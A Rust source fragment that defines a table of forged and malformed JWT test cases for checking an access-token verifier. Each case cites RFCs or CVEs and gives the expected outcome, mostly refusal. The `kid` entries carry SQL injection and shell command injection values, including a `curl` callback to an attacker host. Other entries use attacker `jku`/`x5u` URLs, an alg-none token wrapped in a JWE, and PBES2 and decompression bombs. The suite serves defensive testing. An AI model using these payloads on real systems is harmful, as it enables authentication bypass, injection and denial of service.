    defect!(AlgGarbageMixedCase, "alg-garbage-mixed-case", AlgGarbage, Refuse, [Algorithm], "RFC 7515 §4.1.1 (case-sensitive); RFC 8725bis §3.1", "`alg: Rs256` (the tenant's RS256 signature): `alg` compared ignoring case", |b| b.alg("Rs256")),
    defect!(AlgGarbageTrailingSpace, "alg-garbage-trailing-space", AlgGarbage, Refuse, [Algorithm], "RFC 8725 §3.1", "`alg: \"RS256 \"`", |b| b.alg("RS256 ")),
    defect!(AlgGarbageNul, "alg-garbage-nul", AlgGarbage, Refuse, [Algorithm], "RFC 8725 §3.1", "`alg: \"HS256\\u0000\"`", |b| b.alg("HS256\u{0}")),
    defect!(AlgGarbageNumber, "alg-garbage-number", AlgGarbage, Refuse, [Algorithm], "RFC 7515 §4.1.1", "`alg: 123`", |b| b.header("alg", 123)),
    defect!(AlgGarbageArray, "alg-garbage-array", AlgGarbage, Refuse, [Algorithm], "RFC 7515 §4.1.1", "`alg: [\"RS256\"]`", |b| b.header("alg", json!(["RS256"]))),
    // KID ----------------------------------------------------------------------------------
    defect!(KidUnknown, "kid-unknown", KidUnknown, Refuse, [Key], "jwt_tool", "signed by an attacker's key under a random `kid`", |b| b.kid("Zq4uTg8Yc2Vx7Lm1Np0Rs").signer(attacker_rsa())),
    defect!(KidUnknownAttackerJwks, "kid-unknown-attacker-jwks", KidUnknown, Refuse, [Key], "RFC 8414 §3.3", "signed by the attacker's key under the `kid` the attacker's JWKS publishes (what a poisoned discovery `jwks_uri` serves)", |b| { let kid = attacker_key().kid.clone(); b.kid(&kid).signer(attacker_rsa()) }),
    defect!(KidAbsent, "kid-absent", KidAbsent, Tolerated, [Key], "RFC 7515 §4.1.4", "a valid tenant signature without `kid`", |b| b.without_header("kid")),
    defect!(KidTypeNumber, "kid-type-number", KidType, Refuse, [Key], "jwt_tool forced errors", "`kid: 1`", |b| b.header("kid", 1)),
    defect!(KidTypeNull, "kid-type-null", KidType, Refuse, [Key], "jwt_tool forced errors", "`kid: null`", |b| b.header("kid", Value::Null)),
    defect!(KidTypeArray, "kid-type-array", KidType, Refuse, [Key], "jwt_tool forced errors", "`kid: []`", |b| b.header("kid", json!([]))),
    defect!(KidTypeObject, "kid-type-object", KidType, Refuse, [Key], "jwt_tool forced errors", "`kid: {}`", |b| b.header("kid", json!({}))),
    defect!(KidTypeEmpty, "kid-type-empty", KidType, Refuse, [Key], "jwt_tool forced errors", "`kid: \"\"`", |b| b.kid("")),
    defect!(KidTypeHuge, "kid-type-huge", KidType, Refuse, [Key], "jwt_tool forced errors", "a 10 KiB `kid`", |b| b.kid(&"k".repeat(10 * 1024))),
    defect!(KidTypeCrlf, "kid-type-crlf", KidType, Refuse, [Key], "log injection", "`kid` with CR, LF and NUL (log injection)", |b| b.kid("abc\r\nX-Injected: 1\u{0}")),
    defect!(KidPathTraversal, "kid-path-traversal", KidPath, Refuse, [Algorithm, Key], "jwt_tool playbook", "`kid: ../../../../dev/null` with HS256 keyed by the empty file's content", |b| hs_secret(b, b"").kid("../../../../../../dev/null")),
    defect!(KidPathDevnull, "kid-path-devnull", KidPath, Refuse, [Algorithm, Key], "jwt-scanner", "`kid: /dev/null` with HS256 and an empty key", |b| hs_secret(b, b"").kid("/dev/null")),
    defect!(KidPathInvalid, "kid-path-invalid", KidPath, Refuse, [Algorithm, Key], "jwt_tool playbook", "`kid: /invalid_path` with HS256 and a NUL key", |b| hs_secret(b, b"\0").kid("/invalid_path")),
    defect!(KidSqliUnion, "kid-sqli-union", KidSqli @ Forger::Anyone, Refuse, [Algorithm, Key], "jwt_tool; RFC 8725 §2.9", "`kid: x' UNION SELECT '1';--` with HS256 keyed `1`", |b| hs_secret(b, b"1").kid("x' UNION SELECT '1';--")),
    defect!(KidSqliSleep, "kid-sqli-sleep", KidSqli, Refuse, [Key], "jwt-hack", "`kid: ' OR SLEEP(5)--` (a timing probe)", |b| b.kid("' OR SLEEP(5)--")),
    defect!(KidCmdiSleep, "kid-cmdi-sleep", KidCmdi, Refuse, [Key], "jwt_tool playbook", "`kid: |sleep 10`", |b| b.kid("|sleep 10")),
    defect!(KidCmdiSubshell, "kid-cmdi-subshell", KidCmdi, Refuse, [Key], "jwt_tool playbook", "`kid: $(sleep 10)`", |b| b.kid("$(sleep 10)")),
    defect!(KidCmdiCallback, "kid-cmdi-callback", KidCmdi, Refuse, [Key], "jwt_tool playbook", "`kid: |curl <attacker>/kid-cmdi` (the attacker host must see no request)", |b| { let kid = format!("|curl {}/kid-cmdi", b.attacker_url()); b.kid(&kid) }),
    // KEY ----------------------------------------------------------------------------------
    defect!(OtherTenantKeyUnderKid, "other-tenant-key-under-kid", OtherTenant, Refuse, [Signature], "RFC 7515 §10", "signed by an attacker's key under the tenant's `kid`", |b| b.signer(attacker_rsa())),
    defect!(JwkEmbed, "jwk-embed", JwkEmbed, Refuse, [Signature], "CVE-2018-0114; jwt_tool -X i", "header `jwk` = the attacker's key, signed with it, under the tenant `kid`", |b| { let jwk = attacker_key().jwk().clone(); b.header("jwk", jwk).signer(attacker_rsa()) }),
    defect!(JwkEmbedOwnKid, "jwk-embed-own-kid", JwkEmbed, Refuse, [Key], "CVE-2026-27962", "header `jwk` = the attacker's key, signed with it, under its own `kid`", |b| { let jwk = attacker_key().jwk().clone(); let kid = attacker_key().kid.clone(); b.header("jwk", jwk).kid(&kid).signer(attacker_rsa()) }),
    defect!(JwkEmbedOct, "jwk-embed-oct", JwkEmbed, Refuse, [Algorithm, Key], "CVE-2025-65945 (GHSA-869p-cjfg-cm3x); CVE-2026-27962", "HS256 keyed with a secret the token carries itself, as an `oct` key in its `jwk` header, no `kid`", |b| { let secret = b"attacker-chosen-secret".to_vec(); let jwk = json!({"kty": "oct", "k": b64::url(&secret)}); b.without_header("kid").header("jwk", jwk).alg("HS256").signer(Signer::Hmac { bits: 256, secret }) }),
    defect!(JkuAttacker, "jku-attacker", JkuAttacker, Refuse, [Key], "RFC 7515 §4.1.2; RFC 8725 §3.10", "`jku` = the attacker's JWKS, signed with its key (the attacker host must see no request)", |b| { let url = format!("{}{ATTACKER_JWKS}", b.attacker_url()); attacker_url(b, "jku", url) }),
    defect!(JkuLookalikeUserinfo, "jku-lookalike-userinfo", JkuLookalike, Refuse, [Key], "jwtXploiter", "`jku` = `https://<tenant>@<attacker>/...`: the tenant's name as user info", |b| { let host = crate::Issuer::new(b.issuer_str()).host().to_owned(); let url = b.attacker_url().replacen("://", &format!("://{host}@"), 1) + ATTACKER_JWKS; attacker_url(b, "jku", url) }),
    defect!(JkuLookalikeQuery, "jku-lookalike-query", JkuLookalike, Refuse, [Key], "jwt-hack", "`jku` = `https://<attacker>/?u=<tenant JWKS>`", |b| { let url = format!("{}/?u={}.well-known/jwks.json", b.attacker_url(), b.issuer_str()); attacker_url(b, "jku", url) }),
    defect!(X5AttackerX5u, "x5-attacker-x5u", X5Attacker, Refuse, [Key], "RFC 7515 §4.1.5", "`x5u` = the attacker's certificate, signed with its key", |b| { let url = format!("{}{ATTACKER_CERT}", b.attacker_url()); attacker_url(b, "x5u", url) }),
    defect!(X5AttackerX5c, "x5-attacker-x5c", X5Attacker, Refuse, [Key], "RFC 7515 §4.1.6; jwt-hack", "`x5c` = the attacker's self-signed certificate, signed with its key", |b| { let x5c = attacker_key().jwk()["x5c"].clone(); let kid = attacker_key().kid.clone(); b.header("x5c", x5c).kid(&kid).signer(attacker_rsa()) }),
    defect!(HdrUrlsIgnored, "hdr-urls-ignored", HdrUrlsIgnored, Tolerated, [], "RFC 8725 §3.10", "a valid token that also carries `jku` and `x5u` at the attacker (which must see no request)", |b| { let jku = format!("{}{ATTACKER_JWKS}", b.attacker_url()); let x5u = format!("{}{ATTACKER_CERT}", b.attacker_url()); b.header("jku", jku).header("x5u", x5u) }),
    defect!(OtherTenant, "other-tenant", OtherTenant, Refuse, [Signature, Issuer], "CVE-2018-6873", "a second tenant's token: its issuer, its key, the same `kid`", |b| b.issuer("https://other-tenant.example.com/").signer(Signer::Rsa { key: RsaKey::OtherTenant, bits: 256 })),
    // TIME ---------------------------------------------------------------------------------
    defect!(ExpPast, "exp-past", ExpPast, Refuse, [Expiry], "RFC 7519 §4.1.4; AQT", "expired an hour ago", |b| b.expired(3600)),
    defect!(ExpPast1s, "exp-past-1s", ExpPast, Tolerated, [Expiry], "RFC 7519 §4.1.4", "expired 1 s ago (within any leeway)", |b| b.expired(1)),
    defect!(ExpPast6s, "exp-past-6s", ExpPast, Tolerated, [Expiry], "RFC 7519 §4.1.4", "expired 6 s ago (beyond a 5 s leeway)", |b| b.expired(6)),
    defect!(ExpPast61s, "exp-past-61s", ExpPast, Refuse, [Expiry], "RFC 7519 §4.1.4", "expired 61 s ago (beyond a 60 s leeway)", |b| b.expired(61)),
    defect!(ExpPast301s, "exp-past-301s", ExpPast, Refuse, [Expiry], "RFC 7519 §4.1.4", "expired 301 s ago (beyond any sane leeway)", |b| b.expired(301)),
    defect!(ExpPastNow, "exp-past-now", ExpPast, Tolerated, [Expiry], "RFC 7519 §4.1.4", "`exp` = now (the current time must be before `exp`)", |b| b.expired(0)),
    defect!(ExpAbsent, "exp-absent", ExpAbsent, Refuse, [Expiry], "RFC 9068 §2.2", "no `exp`: a token that never expires", |b| without_claim(b, "exp")),
    defect!(ExpTypeString, "exp-type-string", ExpType, Refuse, [Expiry], "RFC 7519 §2 NumericDate", "`exp` as a string of a future time", |b| { let exp = in_seconds(&b, 3600).to_string(); b.claim("exp", exp) }),
    defect!(ExpTypeNull, "exp-type-null", ExpType, Refuse, [Expiry], "RFC 7519 §2", "`exp: null`", |b| b.claim("exp", Value::Null)),
    defect!(ExpTypeBool, "exp-type-bool", ExpType, Refuse, [Expiry], "RFC 7519 §2", "`exp: true`", |b| b.claim("exp", true)),
    defect!(ExpTypeArray, "exp-type-array", ExpType, Refuse, [Expiry], "RFC 7519 §2", "`exp: []`", |b| b.claim("exp", json!([]))),
    defect!(ExpTypeOverflow, "exp-type-overflow", ExpType, Refuse, [Format], "RFC 7519 §2", "`exp: 1e400`, beyond any float (raw payload)", |b| { let b = b.without_claim("exp"); let p = payload_with(&b, "\"exp\":1e400"); b.raw_payload(p) }),
    defect!(ExpTypeStringPast, "exp-type-string-past", ExpType, Refuse, [Expiry], "RFC 7519 §2; CVE-2026-25537", "`exp` as a string of an hour ago: a verifier that treats an unparsable `exp` as absent accepts it", |b| { let exp = in_seconds(&b, -3600).to_string(); b.claim("exp", exp) }),
    defect!(ExpTypeExponentPast, "exp-type-exponent-past", ExpType, Refuse, [Expiry], "RFC 7519 §2; RFC 8259 §6", "`exp` in exponent form of an expired instant (`1.6e9`, raw payload): a number all the same", |b| { let b = b.without_claim("exp"); let p = payload_with(&b, "\"exp\":1.6e9"); b.raw_payload(p) }),
    defect!(ExpTypeFloat, "exp-type-float", ExpType, Accept, [], "RFC 7519 §2 (fractions allowed)", "`exp` as a float an hour ahead: legal", |b| { let exp = in_seconds(&b, 3600) as f64 + 0.5; b.claim("exp", exp) }),
    defect!(ExpTypeYear10000, "exp-type-year-10000", ExpType, Tolerated, [], "RFC 7519 §2; RFC 8725bis (extreme NumericDates)", "`exp: 253402300800`, the year 10000: a date past what many time types hold; never a 5xx", |b| b.claim("exp", 253_402_300_800_i64)),
    defect!(ExpTypeTwoPow53, "exp-type-2-pow-53", ExpType, Tolerated, [], "RFC 7519 §2; RFC 8725bis (extreme NumericDates)", "`exp: 9007199254740993` (2^53+1, raw payload): past a double's exact integers; never a 5xx", |b| { let b = b.without_claim("exp"); let p = payload_with(&b, "\"exp\":9007199254740993"); b.raw_payload(p) }),
    defect!(ExpTypeTwoPow63, "exp-type-2-pow-63", ExpType, Tolerated, [], "RFC 7519 §2; RFC 8725bis (extreme NumericDates)", "`exp: 9223372036854775808` (2^63, raw payload): one past a signed 64-bit integer; refusing or accepting is fine, a 5xx or a wrap into the past read as valid is not", |b| { let b = b.without_claim("exp"); let p = payload_with(&b, "\"exp\":9223372036854775808"); b.raw_payload(p) }),
    defect!(ExpTypeNegative, "exp-type-negative", ExpType, Refuse, [Expiry], "RFC 7519 §2; RFC 8725bis (extreme NumericDates)", "`exp: -1`, before 1970: expired", |b| b.claim("exp", -1)),
    defect!(ExpTypeNegativeZero, "exp-type-negative-zero", ExpType, Refuse, [Expiry], "RFC 7519 §2; RFC 8725bis (extreme NumericDates)", "`exp: -0` (raw payload), 1970: expired", |b| { let b = b.without_claim("exp"); let p = payload_with(&b, "\"exp\":-0"); b.raw_payload(p) }),
    defect!(NbfFuture, "nbf-future", NbfFuture, Refuse, [NotBefore], "RFC 7519 §4.1.5", "`nbf` two minutes ahead", |b| { let t = in_seconds(&b, 120); b.not_before(t) }),
    defect!(NbfFutureString, "nbf-future-string", NbfFuture, Refuse, [NotBefore], "RFC 7519 §2; CVE-2026-25537", "`nbf` as a string of an hour ahead: a verifier that treats an unparsable `nbf` as absent accepts it", |b| { let t = in_seconds(&b, 3600).to_string(); b.claim("nbf", t) }),
    defect!(NbfFuture3s, "nbf-future-3s", NbfFuture, Tolerated, [NotBefore], "RFC 7519 §4.1.5", "`nbf` 3 s ahead (within a leeway)", |b| { let t = in_seconds(&b, 3); b.not_before(t) }),
    defect!(IatOddFuture, "iat-odd-future", IatOdd, Tolerated, [IssuedAt], "RFC 7519 §4.1.6", "`iat` two minutes ahead", |b| { let t = in_seconds(&b, 120); b.issued_at(t) }),
    defect!(IatOddAncient, "iat-odd-ancient", IatOdd, Accept, [], "RFC 7519 §4.1.6", "`iat` ten years ago (still unexpired): valid", |b| { let t = in_seconds(&b, -10 * 365 * 86_400); b.issued_at(t) }),
    defect!(IatOddLongLived, "iat-odd-long-lived", IatOdd, Accept, [], "RFC 9068 §4", "`exp` ten years ahead: valid unless a max-age policy applies", |b| { let t = in_seconds(&b, 10 * 365 * 86_400); b.expires_at(t) }),
    // AUD ----------------------------------------------------------------------------------
    defect!(AudWrong, "aud-wrong", AudWrong, Refuse, [Audience], "RFC 7519 §4.1.3; RFC 8725 §3.9", "`aud` = another API", |b| b.audience("https://other-api.example.com/")),
    defect!(AudWrongUserinfo, "aud-wrong-userinfo", AudWrong, Refuse, [Audience], "RFC 9068 §4", "`aud` = only the tenant's `/userinfo`", |b| { let aud = format!("{}userinfo", b.issuer_str()); b.audience(aud) }),
    defect!(AudWrongClientId, "aud-wrong-client-id", AudWrong, Refuse, [Audience], "RFC 8725 §3.9", "`aud` = a client id (an ID token's audience)", |b| b.audience(super::FORGE_CLIENT_ID)),
    defect!(AudWrongAbsent, "aud-wrong-absent", AudWrong, Refuse, [Audience], "RFC 9068 §2.2", "no `aud`", |b| without_claim(b, "aud")),
    defect!(AudWrongHomoglyph, "aud-wrong-homoglyph", AudWrong, Refuse, [Audience], "RFC 8725bis (Unicode look-alikes)", "`aud` = the API's identifier with one letter swapped for its Cyrillic look-alike", |b| { let aud = homoglyph(claim(&b, "aud").as_str().unwrap_or_default()); b.audience(aud) }),
    defect!(AudArray, "aud-array", AudArray, Accept, [], "RFC 7519 §4.1.3; Auth0", "`aud` = [API, tenant /userinfo], Auth0's shape with `openid`", |b| { let aud = claim(&b, "aud").clone(); let ui = format!("{}userinfo", b.issuer_str()); b.audience(json!([aud, ui])) }),
    defect!(AudArrayOtherFirst, "aud-array-other-first", AudArray, Accept, [], "RFC 7519 §4.1.3", "`aud` = [another API, API]", |b| { let aud = claim(&b, "aud").clone(); b.audience(json!(["https://other-api.example.com/", aud])) }),
    defect!(AudEmptyArray, "aud-empty-array", AudEmpty, Refuse, [Audience], "CVE-2020-26160", "`aud: []`", |b| b.audience(json!([]))),
    defect!(AudEmptyString, "aud-empty-string", AudEmpty, Refuse, [Audience], "CVE-2020-26160", "`aud: [\"\"]`", |b| b.audience(json!([""]))),
    defect!(AudEmptyNull, "aud-empty-null", AudEmpty, Refuse, [Audience], "CVE-2020-26160", "`aud: null`", |b| b.audience(Value::Null)),
    defect!(AudNearTrailingSlash, "aud-near-trailing-slash", AudNear, Refuse, [Audience], "RFC 7519 §2 StringOrURI", "the API id with a trailing `/`", |b| { let aud = format!("{}/", claim(&b, "aud").as_str().unwrap_or("")); b.audience(aud) }),
    defect!(AudNearCase, "aud-near-case", AudNear, Refuse, [Audience], "RFC 7519 §2", "the API id in upper case", |b| { let aud = claim(&b, "aud").as_str().unwrap_or("").to_uppercase(); b.audience(aud) }),
    defect!(AudNearPrefix, "aud-near-prefix", AudNear, Refuse, [Audience], "RFC 7519 §2", "the API id with a prefix", |b| { let aud = format!("x{}", claim(&b, "aud").as_str().unwrap_or("")); b.audience(aud) }),
    defect!(AudNearSuffix, "aud-near-suffix", AudNear, Refuse, [Audience], "RFC 7519 §2", "the API id with a suffix", |b| { let aud = format!("{}x", claim(&b, "aud").as_str().unwrap_or("")); b.audience(aud) }),
    defect!(AudNearPadded, "aud-near-padded", AudNear, Refuse, [Audience], "RFC 7519 §2", "the API id padded with spaces", |b| { let aud = format!(" {} ", claim(&b, "aud").as_str().unwrap_or("")); b.audience(aud) }),
    defect!(AudNearNumber, "aud-near-number", AudNear, Refuse, [Audience], "RFC 7519 §2", "`aud: 1`", |b| b.audience(1)),
    defect!(AudNearObject, "aud-near-object", AudNear, Refuse, [Audience], "RFC 7519 §2", "`aud` as an object holding the API id", |b| { let aud = claim(&b, "aud").clone(); b.audience(json!({ "aud": aud })) }),
    defect!(AudNearNul, "aud-near-nul", AudNear, Refuse, [Audience], "CWE-158; C-string comparisons", "the API id followed by a NUL and more (`...api\\u0000x`): a comparison that stops at NUL sees the API", |b| { let aud = format!("{}\u{0}x", claim(&b, "aud").as_str().unwrap_or("")); b.audience(aud) }),
    // ISS ----------------------------------------------------------------------------------
    defect!(IssWrongOtherTenant, "iss-wrong-other-tenant", IssWrong, Refuse, [Issuer], "RFC 9068 §4; RFC 8725 §3.8", "`iss` = another tenant (tenant signature)", |b| b.issuer("https://other-tenant.example.com/")),
    defect!(IssWrongEvil, "iss-wrong-evil", IssWrong, Refuse, [Issuer], "RFC 8725 §3.8", "`iss` = `https://evil.example/`", |b| b.issuer("https://evil.example/")),
    defect!(IssWrongAttackerHost, "iss-wrong-attacker-host", IssWrong @ Forger::Anyone, Refuse, [Key, Issuer], "RFC 8725 §3.8; Auth0 Multiple Custom Domains (auth0-api-python `domains`, express-oauth2-jwt-bearer 1.8+)", "`iss` = the attacker's host, which serves a discovery document and a key set for the attacker's key, which signs the token: an API that finds its keys through the token's `iss` must check it against its allow-list before fetching anything", |b| { let iss = format!("{}/", b.attacker_url()); let kid = attacker_key().kid.clone(); b.issuer(&iss).kid(&kid).signer(attacker_rsa()) }),
    defect!(IssWrongAbsent, "iss-wrong-absent", IssWrong, Refuse, [Issuer], "RFC 9068 §2.2", "no `iss`", |b| without_claim(b, "iss")),
    defect!(IssWrongArrayAttackerFirst, "iss-wrong-array-attacker-first", IssWrong, Refuse, [Issuer], "CVE-2025-30144 (fast-jwt < 5.0.6); RFC 7519 §4.1.1", "`iss` = [another issuer, the tenant's issuer]: a check that any element is allowed lets the other issuer's tokens in", |b| { let iss = b.issuer_str().to_owned(); b.claim("iss", json!(["https://evil.example/", iss])) }),
    defect!(IssWrongArrayAttackerLast, "iss-wrong-array-attacker-last", IssWrong, Refuse, [Issuer], "CVE-2025-30144 (fast-jwt < 5.0.6); RFC 7519 §4.1.1", "`iss` = [the tenant's issuer, another issuer]: the same, with the tenant's issuer first", |b| { let iss = b.issuer_str().to_owned(); b.claim("iss", json!([iss, "https://evil.example/"])) }),
    defect!(IssNearNoSlash, "iss-near-no-slash", IssNear, Refuse, [Issuer], "RFC 9068 §4 (exact match)", "the issuer without its trailing slash", |b| { let iss = b.issuer_str().trim_end_matches('/').to_owned(); b.issuer(&iss) }),
    defect!(IssNearHttp, "iss-near-http", IssNear, Refuse, [Issuer], "RFC 9068 §4", "the issuer over `http://`", |b| { let iss = b.issuer_str().replacen("https://", "http://", 1); b.issuer(&iss) }),
    defect!(IssNearUpper, "iss-near-upper", IssNear, Refuse, [Issuer], "RFC 9068 §4", "the issuer with its host in upper case", |b| { let iss = b.issuer_str().to_uppercase().replacen("HTTPS://", "https://", 1); b.issuer(&iss) }),
    defect!(IssNearDoubleSlash, "iss-near-double-slash", IssNear, Refuse, [Issuer], "RFC 9068 §4", "the issuer ending in `//`", |b| { let iss = format!("{}/", b.issuer_str()); b.issuer(&iss) }),
    defect!(IssNearSubstring, "iss-near-substring", IssNear, Refuse, [Issuer], "CVE-2024-53861 (PyJWT 2.10.0)", "`iss` = a substring of the issuer (its host): a check with `in` on strings accepts it", |b| { let iss = b.issuer_str().trim_start_matches("https://").split([':', '/']).next().unwrap_or("").to_owned(); b.issuer(&iss) }),
    defect!(IssNearEmpty, "iss-near-empty", IssNear, Refuse, [Issuer], "CVE-2024-53861 (PyJWT 2.10.0)", "`iss: \"\"`: the empty string is in every string", |b| b.issuer("")),
    defect!(IssNearHomoglyph, "iss-near-homoglyph", IssNear, Refuse, [Issuer], "RFC 8725bis (Unicode look-alikes); RFC 9068 §4 (exact match)", "the issuer with one letter of its host swapped for its Cyrillic look-alike (`о` for `o`): a comparison after Unicode folding or confusable mapping accepts it", |b| { let iss = homoglyph(b.issuer_str()); b.issuer(&iss) }),
    defect!(IssNearZeroWidth, "iss-near-zero-width", IssNear, Refuse, [Issuer], "RFC 8725bis (Unicode look-alikes)", "the issuer with a zero-width space (U+200B) after `https://`", |b| { let iss = b.issuer_str().replacen("://", "://\u{200b}", 1); b.issuer(&iss) }),
    defect!(IssArray, "iss-array", IssArray, Refuse, [Issuer], "nearform/fast-jwt#552; RFC 7519 §4.1.1", "`iss` = [the issuer]: an array is not a StringOrURI, though a membership check accepts it", |b| { let iss = b.issuer_str().to_owned(); b.claim("iss", json!([iss])) }),
    // TYPE ---------------------------------------------------------------------------------
    defect!(IdToken, "id-token", IdToken, Refuse, [Audience, Scope], "RFC 8725 §2.8; RFC 9068 §5", "an ID token (aud = client id, nonce, profile claims, no scope) used as an access token", |b| b.audience(super::FORGE_CLIENT_ID).without_claim("scope").without_claim("gty").without_claim("azp").claim("nonce", "n-0S6_WzA2Mj").claim("name", "Test User").claim("email", "test@example.com").claim("sid", "8sX6PqB2Yv3dQ9Lm1Np0Rs4TuVwXyZaB")),
    defect!(TypAtJwt, "typ-at-jwt", TypAt, Preferred, [], "RFC 9068 §2.1", "`typ: at+jwt`", |b| b.typ("at+jwt")),
    defect!(TypAtApplication, "typ-at-application", TypAt, Preferred, [], "RFC 7515 §4.1.9", "`typ: application/at+jwt`", |b| b.typ("application/at+jwt")),
    defect!(TypAtUpper, "typ-at-upper", TypAt, Preferred, [], "RFC 7515 §4.1.9 (case-insensitive)", "`typ: AT+JWT`", |b| b.typ("AT+JWT")),
    defect!(TypOtherAbsent, "typ-other-absent", TypOther, Accept, [], "Auth0 default profile", "no `typ`", |b| b.without_header("typ")),
    defect!(TypOtherDpop, "typ-other-dpop", TypOther, Tolerated, [Header], "RFC 8725 §3.11", "`typ: dpop+jwt`: another kind of JWT", |b| b.typ("dpop+jwt")),
    defect!(TypOtherLogout, "typ-other-logout", TypOther, Tolerated, [Header], "RFC 8725 §3.11", "`typ: logout+jwt`", |b| b.typ("logout+jwt")),
    defect!(TypOtherSecevent, "typ-other-secevent", TypOther, Tolerated, [Header], "RFC 8725 §3.11", "`typ: secevent+jwt`", |b| b.typ("secevent+jwt")),
    // FMT ----------------------------------------------------------------------------------
    defect!(CtyNested, "cty-nested", CtyNested, Refuse, [Format], "RFC 7519 §5.2; RFC 8725 §3.3", "`cty: JWT` with a valid token as the payload", |b| { let inner = b.clone().sign(); b.header("cty", "JWT").raw_payload(inner) }),
    defect!(Jwe, "jwe", Jwe, Refuse, [Format], "RFC 8725 §3.6", "a five-part JWE (RSA-OAEP, A256GCM) instead of a JWS", |b| { let kid = b.tenant_key().kid.clone(); b.finish(move |_| jwe(&kid, false)) }),
    defect!(JweNoneInside, "jwe-none-inside", Jwe @ Forger::Anyone, Refuse, [Format], "CVE-2026-29000, GHSA-pm7g-w2cf-q238 (pac4j-jwt)", "a real JWE (RSA-OAEP-256, A256GCM) to the TEST-ONLY encryption key, holding the valid claims as an unsigned `alg: none` JWT: a verifier that decrypts and then trusts the inner token lets anyone in who knows the public key", |b| { let kid = super::enc_key().kid.clone(); b.randomized().finish(move |t| { let payload = t.split('.').nth(1).unwrap_or("").to_owned(); let inner = format!("{}.{payload}.", b64::url(json!({"alg": "none", "typ": "JWT"}).to_string())); crate::jwe::seal_to_enc_key(&kid, inner.as_bytes()) }) }),
    defect!(JweP2cBomb, "jwe-p2c-bomb", JweP2c, Refuse, [Format], "RFC 8725bis (PBES2 iteration count); CVE-2022-36083 (jose < 4.9.2); CVE-2023-52428 (Nimbus JOSE+JWT < 9.37.2)", "a JWE header `alg: PBES2-HS512+A256KW` with `p2c` = 2,147,483,647: a library that derives the key before it refuses runs two billion PBKDF2 rounds for one request; the refusal must come at once", |b| b.finish(|_| jwe_p2c_bomb())),
    defect!(JweZip, "jwe-zip", Jwe, Refuse, [Format], "CVE-2024-33664; CVE-2024-28180", "a JWE with `zip: DEF` (a decompression bomb must not be inflated)", |b| { let kid = b.tenant_key().kid.clone(); b.finish(move |_| jwe(&kid, true)) }),
    defect!(CritUnknown, "crit-unknown", Crit, Refuse, [Header], "RFC 7515 §4.1.11; CVE-2026-32597 (PyJWT < 2.12); CVE-2025-59420 (Authlib < 1.6.4)", "`crit: [\"foo\"]` with `foo: 1`: an extension the API cannot understand", |b| b.header("crit", json!(["foo"])).header("foo", 1)),
    defect!(CritEmpty, "crit-empty", Crit, Refuse, [Header], "RFC 7515 §4.1.11 (MUST NOT be empty)", "`crit: []`", |b| b.header("crit", json!([]))),
    defect!(CritRegistered, "crit-registered", Crit, Refuse, [Header], "RFC 7515 §4.1.11", "`crit: [\"alg\"]`: registered names must not be listed", |b| b.header("crit", json!(["alg"]))),
    defect!(CritString, "crit-string", Crit, Refuse, [Header], "RFC 7515 §4.1.11", "`crit: \"foo\"` (not an array)", |b| b.header("crit", "foo").header("foo", 1)),
    defect!(CritB64False, "crit-b64-false", Crit, Refuse, [Header], "RFC 7797 §3/§6; CVE-2025-59420 (Authlib < 1.6.4)", "`b64: false` with `crit: [\"b64\"]`", |b| b.header("b64", false).header("crit", json!(["b64"]))),
    defect!(JsonDupScopeLastRead, "json-dup-scope-last-read", JsonDup, Tolerated, [], "RFC 8725 §2.6", "payload `scope` twice, `write:messages` then `read:messages` (last wins: read)", |b| { let text = Value::Object(b.claims().clone()).to_string().replacen("\"iss\":", "\"scope\":\"write:messages\",\"iss\":", 1); b.raw_payload(text) }),
    defect!(JsonDupScopeFirstRead, "json-dup-scope-first-read", JsonDup, InsufficientScope, [Scope], "RFC 8725 §2.6", "payload `scope` twice, `read:messages` then `write:messages`: a first-wins parser grants read", |b| { let p = payload_with(&b, "\"scope\":\"write:messages\""); b.raw_payload(p) }),
    defect!(JsonDupAlgLastRs256, "json-dup-alg-last-rs256", JsonDup, Tolerated, [], "RFC 7515 §4", "header `alg` twice, `none` then `RS256` (last wins: RS256)", |b| { let kid = b.tenant_key().kid.clone(); b.raw_header(format!("{{\"alg\":\"none\",\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"{kid}\"}}")) }),
    defect!(JsonDupAlgFirstRs256, "json-dup-alg-first-rs256", JsonDup, Refuse, [Algorithm], "RFC 7515 §4", "header `alg` twice, `RS256` then `none`: a first-wins parser sees RS256", |b| { let kid = b.tenant_key().kid.clone(); b.raw_header(format!("{{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"{kid}\",\"alg\":\"none\"}}")) }),
    defect!(JsonBadHeader, "json-bad-header", JsonBad, Refuse, [Format], "RFC 8725 §3.7", "a header that is not JSON", |b| b.raw_header("{\"alg\":\"RS256\",")),
    defect!(JsonBadPayloadString, "json-bad-payload-string", JsonBad, Refuse, [Format], "RFC 7519 §7.2", "payload `\"str\"`", |b| b.raw_payload("\"str\"")),
    defect!(JsonBadPayloadArray, "json-bad-payload-array", JsonBad, Refuse, [Format], "RFC 7519 §7.2", "payload `[1]`", |b| b.raw_payload("[1]")),
    defect!(JsonBadPayloadArrayClaims, "json-bad-payload-array-claims", JsonBad, Refuse, [Format], "nearform/fast-jwt#638, #639", "payload = [the valid claims]: a JSON array, whose claim validators a `claim in payload` check skips", |b| { let claims = Value::Object(b.claims().clone()).to_string(); b.raw_payload(format!("[{claims}]")) }),
    defect!(JsonBadPayloadNumber, "json-bad-payload-number", JsonBad, Refuse, [Format], "RFC 7519 §7.2", "payload `1`", |b| b.raw_payload("1")),
    defect!(JsonBadUtf8, "json-bad-utf8", JsonBad, Refuse, [Format], "RFC 8259 §8.1", "payload with invalid UTF-8 in a claim", |b| { let mut p = payload_with(&b, "\"name\":\"x\""); let at = p.len() - 3; p[at] = 0xff; b.raw_payload(p) }),
    defect!(JsonBadBomHeader, "json-bad-bom-header", JsonBad, Refuse, [Format], "RFC 8259 §8.1 (no byte order mark); RFC 8725bis", "the header's JSON after a UTF-8 byte order mark", |b| { let kid = b.tenant_key().kid.clone(); let h = format!("{{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"{kid}\"}}"); b.raw_header([b"\xef\xbb\xbf".as_slice(), h.as_bytes()].concat()) }),
    defect!(JsonBadBomPayload, "json-bad-bom-payload", JsonBad, Refuse, [Format], "RFC 8259 §8.1 (no byte order mark); RFC 8725bis", "the payload's JSON after a UTF-8 byte order mark", |b| { let p = Value::Object(b.claims().clone()).to_string(); b.raw_payload([b"\xef\xbb\xbf".as_slice(), p.as_bytes()].concat()) }),
